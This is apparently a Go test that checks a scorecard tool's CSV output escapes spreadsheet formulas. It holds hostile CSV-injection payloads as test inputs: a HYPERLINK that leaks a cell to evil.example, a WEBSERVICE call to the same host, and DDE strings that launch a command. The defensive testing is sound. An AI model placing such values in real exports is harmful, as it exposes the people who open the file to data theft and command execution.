package scorecard

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/hinscore/hinscore/services/lib/chstore"
	"github.com/hinscore/hinscore/services/lib/chstore/chtest"
)

// hostileIdents are the identifiers of figuresWorld as a sender might have
// spelled them in MSH-4: formulas. N1 and NX stay unknown to the directory
// (named by their identifier); S2 is known under a hostile name and
// developer.
var hostileIdents = map[string]string{
	"N1": `=HYPERLINK("http://evil.example/?"&A1,"North")`,
	"NX": `  =1+1`,
	"S2": `@SUM(1+1)*cmd|' /C calc'!A0`,
}

var (
	hostileName      = `-2+3+cmd|' /C calc'!A0`
	hostileDeveloper = `=WEBSERVICE("http://evil.example")` // the directory trims spaces and tabs
)

// unsafeCell reports a cell a spreadsheet would read as a formula: one that
// begins, after spaces, with = + - @ tab or CR and is not a plain number.
var plainNumberCell = regexp.MustCompile(`^[-+]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?$`)

func unsafeCell(c string) bool {
	lead := strings.TrimLeft(c, " ")
	return lead != "" && strings.ContainsAny(lead[:1], "=+-@\t\r") && !plainNumberCell.MatchString(c)
}

// TestScorecardCSVsAreSpreadsheetSafe runs the scorecard command over a
// world whose responder organisations are named with formulas, by the
// identifier a sender sent and by the directory, and reads every CSV it
// writes (each network's card and the offenders list): no cell would run
// in a spreadsheet, and each hostile name is still there, quoted.
func TestScorecardCSVsAreSpreadsheetSafe(t *testing.T) {
	clearEnv(t)
	conn, d := chtest.Database(t)
	world := figuresWorld()
	for i := range world {
		if h, ok := hostileIdents[world[i].ident]; ok {
			world[i].ident = h
		}
	}
	insertObs(t, conn, world)
	var dir bytes.Buffer
	cw := csv.NewWriter(&dir)
	_ = cw.Write([]string{"identifier", "org_id", "name", "type", "developer", "networks"})
	_ = cw.Write([]string{hostileIdents["S2"], "south-2x", hostileName, "provider", hostileDeveloper, "south"})
	cw.Flush()
	if _, err := chstore.LoadOrganizations(context.Background(), conn, &dir, march); err != nil {
		t.Fatal(err)
	}
	out := t.TempDir()
	var stdout, stderr bytes.Buffer
	if err := RunCLI(context.Background(), []string{"--clickhouse", dsnString(d), "--out", out, "--period", "2026-05"}, &stdout, &stderr); err != nil {
		t.Fatalf("RunCLI: %v\n%s", err, stderr.String())
	}
	seen := map[string]bool{}
	for _, name := range []string{"north.csv", "south.csv", "offenders.csv"} {
		data, err := os.ReadFile(filepath.Join(out, "2026-05", name))
		if err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for i, r := range records {
			for j, c := range r {
				if unsafeCell(c) {
					t.Errorf("%s row %d column %s: %q would run as a formula", name, i, records[0][j], c)
				}
				seen[c] = true
			}
		}
	}
	for _, h := range []string{hostileIdents["N1"], hostileIdents["NX"], hostileName, hostileDeveloper} {
		if !seen["'"+h] {
			t.Errorf("no cell %q: the name is lost or not escaped", "'"+h)
		}
	}
}
